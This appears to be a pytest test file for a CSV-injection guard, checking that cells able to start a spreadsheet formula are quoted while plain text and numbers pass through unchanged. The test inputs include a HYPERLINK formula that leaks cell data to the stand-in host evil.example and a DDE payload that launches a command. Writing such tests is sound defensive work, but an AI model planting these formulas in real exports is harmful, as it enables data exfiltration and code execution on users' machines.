import io

import pytest

from portal.csv_safe import SafeWriter, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
        "-2+3+cmd|' /C calc'!A0",
        "+33 1 23",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
        "  =1+1",
    ],
)
def test_text_that_could_start_a_formula_is_quoted(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Métropole", "", "50 %", "a=b"])
def test_plain_text_is_unchanged(cell):
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_and_none_is_empty():
    assert neutralise(-5) == -5
    assert neutralise(12.5) == 12.5
    assert neutralise(None) == ""


def test_writer_neutralises_every_cell():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow(["=1+1", "ok", -3])
    assert buffer.getvalue() == "'=1+1;ok;-3\r\n"
